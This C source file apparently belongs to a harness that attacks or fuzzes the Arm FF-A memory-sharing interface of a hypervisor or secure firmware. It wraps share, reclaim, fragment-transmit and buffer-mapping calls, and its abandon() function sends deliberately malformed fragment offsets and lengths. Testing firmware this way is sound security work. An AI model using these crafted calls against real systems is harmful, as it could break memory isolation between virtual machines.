/* SPDX-License-Identifier: BSD-3-Clause */
/*
 * send.c - good memory sends, which the attacks start from, and what ends them.
 */
#include "attacker.h"

void describe(uint32_t number, uint32_t ranges)
{
	describe_as(spoken(), number, ranges, 1);
}

uint64_t answered_handle(void)
{
	return (uint32_t)answer.x[2] | answer.x[3] << 32;
}

int32_t reclaim(uint64_t handle)
{
	return ask(FFA_FID32(FFA_NR_MEM_RECLAIM), handle & UINT32_MAX, handle >> 32, 0, 0);
}

int32_t share(uint64_t page, uint64_t *handle)
{
	int32_t result;

	describe(FFA_NR_MEM_SHARE, 1);
	put(RANGE_AT, page, 8);
	result = ask(FFA_FID32(FFA_NR_MEM_SHARE), described_bytes(1), described_bytes(1), 0, 0);
	*handle = answered_handle();
	return result;
}

void abandon(uint64_t handle)
{
	uint64_t low = handle & UINT32_MAX, high = handle >> 32;

	(void)ask(FFA_FID32(FFA_NR_MEM_FRAG_TX), low, high, 0xFFFFFFF0, 0);
	put(0, OWN_PAGES, 8);
	put(8, UINT32_MAX, 8);
	(void)ask(FFA_FID32(FFA_NR_MEM_FRAG_TX), low, high, 16, 0);
}

int32_t attempt_given(const struct regs *regs)
{
	int32_t result = attempt_regs(regs);

	if (result == OUT_SUCCESS && reclaim(answered_handle()) != OUT_SUCCESS)
		return OUT_BROKEN;
	if (result == OUT_FRAG_RX)
		abandon((uint32_t)answer.x[1] | answer.x[2] << 32);
	return result;
}

int32_t attempt_send(uint32_t fid, uint32_t ranges)
{
	struct regs regs = { { fid, described_bytes(ranges), described_bytes(ranges) } };

	return attempt_given(&regs);
}

bool map_pair(void)
{
	return ask(FFA_FID64(FFA_NR_RXTX_MAP), (uint64_t)tx, (uint64_t)rx, 1, 0) == OUT_SUCCESS;
}
